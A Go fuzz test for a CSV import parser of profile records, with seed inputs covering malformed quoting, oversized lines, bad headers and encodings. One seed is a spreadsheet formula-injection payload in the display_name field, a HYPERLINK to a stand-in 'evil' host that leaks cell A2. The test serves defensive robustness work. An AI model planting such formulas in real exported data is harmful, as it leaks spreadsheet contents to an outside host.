package domain

import (
	"errors"
	"io"
	"strings"
	"testing"
)

// FuzzImportCSV feeds arbitrary bytes to the import parser, as an
// organiser's file (or an attacker's, through a compromised organiser
// account) would: it never panics nor loops, every record it cannot use
// is a RowError on a line that exists, and every row it accepts is a
// valid profile with the address it was keyed by.
func FuzzImportCSV(f *testing.F) {
	for _, seed := range []string{
		"email,display_name,interests,country_code,email_consent\nada@example.org,Ada,solar;climate,DE,true\n",
		"\ufeffemail,display_name\r\nada@example.org,\"Ada \"\"A\"\" L\"\r\n",
		"email,display_name,motivation\nada@example.org,Ada,\"line one\nline two\"\n",
		"email,display_name\nmallory@example.org,'=HYPERLINK(\"http://evil\"&A2,\"open\")\n",
		"email,display_name\n\"unterminated,Ada\n",
		"email,display_name,shoe_size\n",
		"email,email,display_name\n",
		"display_name\nAda\n",
		"email,display_name\nada@example.org\n",
		"email,display_name,availability_hours_per_month\nada@example.org,Ada,99999999999999999999\n",
		"email,display_name\n" + strings.Repeat("x", 70<<10) + "\nbob@example.org,Bob\n",
		"email,display_name\n\"" + strings.Repeat("y\n", 1000) + "\",Z\nbob@example.org,Bob\n",
		"", "\n\n\n", ",,,", "\"",
	} {
		f.Add([]byte(seed))
	}
	settings := DefaultSettings("demo")
	f.Fuzz(func(t *testing.T, data []byte) {
		lines := int64(strings.Count(string(data), "\n") + 1)
		rr := NewRecordReader(strings.NewReader(string(data)))
		rec, line, err := rr.Next()
		if errors.Is(err, io.EOF) {
			return
		}
		var rowErr *RowError
		if errors.As(err, &rowErr) {
			checkRowError(t, *rowErr, lines)
			return
		}
		if err != nil {
			t.Fatalf("header: %v", err)
		}
		header, err := ParseImportHeader(rec)
		if err != nil {
			if !errors.As(err, &rowErr) || rowErr.Reason == "" {
				t.Fatalf("header error %v is not a row error with a reason", err)
			}
			return
		}
		if line != 1 && line > lines {
			t.Fatalf("header on line %d of %d", line, lines)
		}
		for n := 0; ; n++ {
			if n > len(data)+1 {
				t.Fatal("the reader does not end")
			}
			rec, line, err := rr.Next()
			if errors.Is(err, io.EOF) {
				return
			}
			if errors.As(err, &rowErr) {
				checkRowError(t, *rowErr, lines)
				continue
			}
			if err != nil {
				t.Fatalf("record: %v", err)
			}
			row, errs := header.Row(line, rec, settings)
			for _, e := range errs {
				checkRowError(t, e, lines)
			}
			if len(errs) > 0 {
				continue
			}
			if _, err := row.Profile.Validate(settings); err != nil {
				t.Errorf("accepted row %d is invalid: %v", line, err)
			}
			if row.Profile.Email == "" || row.Profile.DisplayName == "" || row.Line != line {
				t.Errorf("accepted row %d = %+v", line, row)
			}
		}
	})
}

func checkRowError(t *testing.T, e RowError, lines int64) {
	t.Helper()
	if e.Line < 1 || e.Line > lines || e.Reason == "" || e.Error() == "" {
		t.Errorf("row error %+v (of %d lines)", e, lines)
	}
}
